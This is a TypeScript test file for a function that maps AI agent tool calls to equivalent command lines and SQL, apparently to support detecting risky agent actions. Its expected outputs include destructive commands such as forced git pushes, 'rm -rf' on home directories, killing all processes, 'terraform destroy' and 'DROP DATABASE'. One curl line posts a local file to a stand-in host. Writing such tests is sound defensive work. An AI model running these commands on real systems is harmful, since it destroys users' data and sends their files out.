/** Structured tool calls as the command line (or SQL) they stand for (src/engine/extract/tool-call/cli.ts). */
import { describe, expect, it } from 'vitest';
import { cliEquivalents, nameWords } from '../../../../src/engine/extract/tool-call/cli.js';

describe('nameWords', () => {
  it.each([
    ['git_push', ['git', 'push']],
    ['gitPush', ['git', 'push']],
    ['docker.run', ['docker', 'run']],
    ['git-clean', ['git', 'clean']],
    ['mcp__github__delete_repository', ['github', 'delete', 'repository']],
    ['NotebookEdit', ['notebook', 'edit']],
  ])('%s', (name, want) => {
    expect(nameWords(name)).toEqual(want);
  });
});

describe('cliEquivalents', () => {
  it.each([
    ['git_push', { remote: 'origin', branch: 'main', force: true }, 'git push --force origin main'],
    ['git_push', { remote: 'origin', branch: 'feature' }, 'git push origin feature'],
    ['git_reset', { mode: 'hard', ref: 'HEAD~5' }, 'git reset --hard HEAD~5'],
    ['git_clean', { force: true, directories: true }, 'git clean -f -d'],
    ['docker_run', { image: 'alpine', privileged: true }, 'docker run --privileged alpine'],
    [
      'create_container',
      { Image: 'alpine', HostConfig: { PidMode: 'host' } },
      'docker run --pid=host alpine',
    ],
    ['docker_run', { image: 'alpine', volumes: { '/': { bind: '/h' } } }, 'docker run -v /:/h alpine'],
    ['delete_file', { path: '/home/agent' }, 'rm -rf -- /home/agent'],
    ['deleteFiles', { glob: '/home/agent/**' }, 'rm -rf -- /home/agent/**'],
    ['kill_process', { pid: -1, signal: 'SIGKILL' }, 'kill -s KILL -- -1'],
    ['kubectl', { verb: 'delete', resource: 'namespace', name: 'prod' }, 'kubectl delete namespace prod'],
    ['terraform_destroy', { auto_approve: true }, 'terraform destroy -auto-approve'],
    ['s3_delete_bucket', { bucket: 'b', force: true }, 'aws s3 rb s3://b --force'],
    ['aws', { service: 's3', operation: 'deleteBucket', bucket: 'b' }, 'aws s3api delete-bucket --bucket b'],
    ['drop_table', { table: 'users' }, 'DROP TABLE "users";'],
    ['database_drop', { database: 'prod' }, 'DROP DATABASE "prod";'],
    ['mcp__github__delete_repository', { owner: 'acme', repo: 'x' }, 'gh repo delete acme/x --yes'],
    [
      'http_request',
      { url: 'https://x.example', body_file: '/k' },
      'curl -X POST --data-binary @/k https://x.example',
    ],
    ['subprocess', { args: ['rm', '-rf', '/h'], shell: false }, 'rm -rf /h'],
  ])('%s %j', (name, args, want) => {
    expect(cliEquivalents(name, args).map((c) => c.code)).toContain(want);
  });

  it.each([
    ['delete_table_row', { table: 'users', id: 1 }],
    ['delete_repo_secret', { owner: 'a', repo: 'b', secret_name: 'S' }],
    ['read_file', { path: '/home/agent' }],
    ['search', { query: 'git push --force' }],
    ['kill_process', { name: 'node' }],
  ])('%s %j has no command line', (name, args) => {
    expect(cliEquivalents(name, args)).toEqual([]);
  });

  it('runs the ! lines of a notebook cell in the shell and the rest as Python', () => {
    expect(cliEquivalents('NotebookEdit', { new_source: 'import os\n!rm -rf ~' })).toEqual([
      { code: 'rm -rf ~', runtime: 'bash' },
      { code: 'import os\npass', runtime: 'python' },
    ]);
  });
});
